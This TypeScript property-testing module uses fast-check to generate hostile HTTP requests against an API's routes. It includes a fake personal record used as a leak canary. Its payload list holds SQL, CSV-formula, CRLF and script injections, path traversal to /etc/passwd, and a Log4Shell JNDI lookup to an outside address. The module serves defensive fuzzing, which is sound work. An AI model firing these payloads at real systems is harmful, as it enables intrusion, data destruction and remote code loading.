import * as fc from 'fast-check';

/** The part of JSON Schema that the api's own description uses. */
export type Schema = Readonly<{
  type?: string;
  properties?: Readonly<Record<string, Schema>>;
  required?: readonly string[];
  items?: Schema;
  oneOf?: readonly Schema[];
  enum?: readonly unknown[];
  pattern?: string;
  format?: string;
  maxLength?: number;
}>;
export type Operation = Readonly<{
  parameters?: readonly Readonly<{ name: string; in: string; required?: boolean; schema: Schema }>[];
  requestBody?: Readonly<{ content: Readonly<Record<string, Readonly<{ schema: Schema }>>> }>;
}>;
export type Hostile = Readonly<{
  /** Which of the route's roles asks. */
  as: number;
  url: string;
  /** Undefined: none at all. A Buffer goes as it is. */
  body: unknown;
  headers: Readonly<Record<string, string>>;
}>;

/** One household that exists nowhere else; whoever finds any of these outside a seal has found a leak. */
export const SECRETS = {
  name: '钱漏密',
  idNumber: '370283195001011237',
  phone: '13987651234',
  bankCard: '6222020200112233446',
} as const;
const NUMBERS: Readonly<Record<string, string>> = { idNumber: SECRETS.idNumber, phone: SECRETS.phone, bankCard: SECRETS.bankCard };
const PEOPLE: ReadonlySet<unknown> = new Set(['household', 'person']);
/** Names of projects and villages are no secret; those of people are. */
const named = (subject: Readonly<Record<string, unknown>>): Readonly<Record<string, unknown>> => ({
  ...subject,
  name: PEOPLE.has(subject['kind']) ? SECRETS.name : '某项目',
});

const INJECTIONS = [
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd',
  '\r\nSet-Cookie: ql_session=stolen\r\n\r\n',
  '\u001b[2J\u001b[31mERROR everything is lost',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://203.0.113.1/x}',
  '{{7*7}}%s%n%x',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'toString',
  '%00',
  '%',
  '_',
  '\\',
];
const ODD_TEXT = ['', ' ', '\u0000', '危\u0000房', '\ud800', '危\udc00房', '𠮷𠮷𠮷', '👨‍👩‍👧', '\u202Egpj.exe', '\uFEFF', 'ﷺ', '１２３'];
const ODD_NUMBERS = ['-1', '0', '2147483648', '1e309', '9'.repeat(400), '99999999999999999999', 'NaN', '0x10', '1.5'];
const ODD_DAYS = ['2020-07-06', '2020-02-30', '0000-00-00', '0001-01-01', '9999-12-31', '+275760-09-13', '2020-7-6', '2021-06-30'];
const KNOWN_IDS = [
  'dazeshan',
  'dazeshan-beishuyuan',
  'jiudian',
  'housing',
  'water',
  'T',
  'S',
  'p-inspector',
  'constructor',
  'toString',
  '..',
  '1',
];
/** Some of these are far beyond what a calendar knows. */
const DAYS = ['2020-07-06', '2020-07-06', '2020-07-31', '2021-06-30', '9999-12-31', '0001-01-01'];
export const UNKNOWN = '7b1c9f0e-1111-4222-8333-444455556666';

const huge = fc.constantFrom('长'.repeat(3000), 'A'.repeat(200_000), `${SECRETS.idNumber} `.repeat(400));
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...INJECTIONS), weight: 4 },
  { arbitrary: fc.constantFrom(...ODD_TEXT), weight: 4 },
  { arbitrary: fc.constantFrom(...ODD_NUMBERS, ...ODD_DAYS), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: huge, weight: 1 },
);
const deep = (levels: number): unknown => {
  let value: unknown = 'x';
  for (let i = 0; i < levels; i += 1) value = i % 2 === 0 ? [value] : { a: value };
  return value;
};
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileText, weight: 5 },
  { arbitrary: fc.constantFrom<unknown>(null, true, [], {}, [[]], -1, 0, 0.5, 1e308, 2 ** 53, { length: 3 }, deep(40)), weight: 3 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 1 },
);

/** Text that fits: plain words, or words with a number in them that must not be kept. */
const words = (schema: Schema): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: fc.constantFrom('依据现场核查', '=1+1', '𠮷'.repeat(Math.min(30, schema.maxLength ?? 30))), weight: 3 },
    { arbitrary: fc.constantFrom(...INJECTIONS), weight: 2 },
    { arbitrary: fc.constantFrom(`户主电话${SECRETS.phone}`, `证号 ${SECRETS.idNumber}，卡 ${SECRETS.bankCard}`), weight: 1 },
  );
const fittingText = (schema: Schema, ids: readonly string[]): fc.Arbitrary<unknown> => {
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  if (schema.format === 'uuid') return fc.constantFrom(UNKNOWN, ...ids);
  if (schema.format === 'date-time') return fc.constantFrom('2020-07-06T01:00:00Z', '9999-12-31T23:59:59+14:00', '0001-01-01T00:00:00Z');
  if (schema.pattern !== undefined) return fc.constantFrom(...KNOWN_IDS);
  return schema.maxLength === undefined ? fc.constantFrom(...DAYS) : words(schema);
};
const fitting = (schema: Schema, ids: readonly string[], field = ''): fc.Arbitrary<unknown> => {
  const number = NUMBERS[field];
  if (number !== undefined && schema.type === 'string') return fc.constant(number);
  if (schema.oneOf !== undefined) return fc.oneof(...schema.oneOf.map((one) => fitting(one, ids, field)));
  if (schema.type === 'object') {
    const properties = Object.entries(schema.properties ?? {}).map(([name, one]) => [name, fitting(one, ids, name)] as const);
    const whole = fc.record(Object.fromEntries(properties), { requiredKeys: [...(schema.required ?? [])], noNullPrototype: true });
    return schema.properties?.['idNumber'] === undefined ? whole : whole.map(named);
  }
  if (schema.type === 'array') return fc.array(fitting(schema.items ?? {}, ids), { minLength: 1, maxLength: 3 });
  if (schema.type === 'boolean') return fc.boolean();
  if (schema.type === 'integer' || schema.type === 'number') return fc.constantFrom(1, 2, 1000, -1, 2 ** 31, 2 ** 53);
  return fittingText(schema, ids);
};

/** The same with one leaf or branch replaced, or with a field too many. */
const spoiled = (value: unknown, where: readonly number[], by: unknown): unknown => {
  const [step, ...rest] = where;
  if (step === undefined || typeof value !== 'object' || value === null) return by;
  const keys = Object.keys(value);
  const key = keys[step % (keys.length + 1)] ?? 'nobodyKnows';
  if (Array.isArray(value)) return value.map((one, i) => (String(i) === key ? spoiled(one, rest, by) : (one as unknown)));
  return { ...value, [key]: spoiled((value as Record<string, unknown>)[key], rest, by) };
};

const bodyOf = (operation: Operation, ids: readonly string[]): fc.Arbitrary<unknown> => {
  const schema = operation.requestBody?.content['application/json']?.schema;
  const fits = schema === undefined ? fc.constant({}) : fitting(schema, ids);
  const spoilt = fc.tuple(fits, fc.array(fc.nat(40), { minLength: 1, maxLength: 4 }), hostileValue).map((all) => spoiled(...all));
  const raw = fc.constantFrom(
    '{',
    '[]]',
    '{"a":1,"a":2}',
    '{"__proto__":{"admin":true}}',
    `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
    '\u0000',
    '"\\ud800"',
  );
  return fc.oneof(
    { arbitrary: fits, weight: 7 },
    { arbitrary: spoilt, weight: 7 },
    { arbitrary: hostileValue, weight: 1 },
    { arbitrary: raw.map((text) => Buffer.from(text)), weight: 1 },
    { arbitrary: fc.constant(undefined), weight: 1 },
  );
};

const BAD_TYPES = [
  'text/plain',
  'application/xml',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  ';;;',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
];
const printable = hostileText.map((text) => text.replace(/[^\x20-\x7e]/g, '?').slice(0, 2000));
const headers: fc.Arbitrary<Record<string, string>> = fc.oneof(
  {
    arbitrary: fc.constantFrom<Record<string, string>>(
      {},
      { 'if-match': '"0"' },
      { 'if-match': '"3"' },
      { 'x-redact-personal-data': 'confirmed' },
    ),
    weight: 6,
  },
  { arbitrary: fc.constantFrom(...BAD_TYPES).map((type) => ({ 'content-type': type })), weight: 1 },
  {
    arbitrary: fc
      .tuple(
        fc.constantFrom('if-match', 'idempotency-key', 'cookie', 'x-acting-post', 'x-csrf-token', 'x-read-position', 'accept'),
        printable,
      )
      .map(([name, value]) => ({ [name]: name === 'cookie' ? `ql_session=${value}; ${value}` : value })),
    weight: 2,
  },
);

const RAW_SEGMENTS = ['%zz', '%', '%00', '%ED%A0%80', '..%2f..%2fetc%2fpasswd', '%2e%2e', 'a'.repeat(500), `${SECRETS.idNumber}%zz`];
const encoded = (text: string): string => encodeURIComponent(text.slice(0, 2000).replace(/\p{Cs}/gu, '?'));
const segment = (name: string, known: readonly string[]): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...known), weight: 8 },
    {
      arbitrary: hostileText.map(
        (text) =>
          encoded(text)
            .slice(0, 600)
            .replace(/%[^%]?$/, '') || name,
      ),
      weight: 1,
    },
    { arbitrary: fc.constantFrom(...RAW_SEGMENTS), weight: 1 },
  );
const queryOf = (operation: Operation, ids: readonly string[]): fc.Arbitrary<string> => {
  const asked = (operation.parameters ?? []).filter((parameter) => parameter.in === 'query');
  if (asked.length === 0) return fc.constantFrom('', '', '', '?a=1&a=2', '?__proto__=x', '?%00=%00');
  const write = (name: string, value: unknown): string => `${name}=${encoded(Array.isArray(value) ? value.join(',') : String(value))}`;
  const fits = ({ name, schema }: (typeof asked)[number]): fc.Arbitrary<string> =>
    (name === 'position' ? fc.constantFrom('0', '3', '-1') : fitting(schema, ids)).map((value) => write(name, value));
  const needed = fc.tuple(...asked.filter(({ required }) => required === true).map(fits));
  const pair = fc.constantFrom(...asked).chain((one) =>
    fc.oneof(
      fits(one),
      fits(one),
      hostileText.map((text) => write(one.name, text)),
    ),
  );
  const raw = asked.map(({ name }) => [`${name}=%zz&${name}=%00&${name}[]=1`]);
  return fc
    .tuple(needed, fc.oneof({ arbitrary: fc.array(pair, { maxLength: 3 }), weight: 6 }, { arbitrary: fc.constantFrom(...raw), weight: 1 }))
    .map((pairs) => `?${pairs.flat().join('&')}`);
};

/** Requests to one route that nobody means well with; `known` gives values of its path's parameters that exist. */
export const hostileRequests = (
  method: string,
  path: string,
  operation: Operation,
  known: (parameter: string) => readonly string[],
  { seed, count }: Readonly<{ seed: number; count: number }>,
): readonly Hostile[] => {
  const ids = known('id');
  const parts = path.split('/').map((part) => {
    const name = /^\{(\w+)\}$/.exec(part)?.[1];
    return name === undefined ? fc.constant(part) : segment(name, known(name));
  });
  const url = fc.tuple(fc.tuple(...parts), queryOf(operation, ids)).map(([segments, query]) => `${segments.join('/')}${query}`);
  const body = method === 'GET' ? fc.constant(undefined) : bodyOf(operation, ids);
  return fc.sample(fc.record({ as: fc.nat(20), url, body, headers }, { noNullPrototype: true }), { seed, numRuns: count });
};
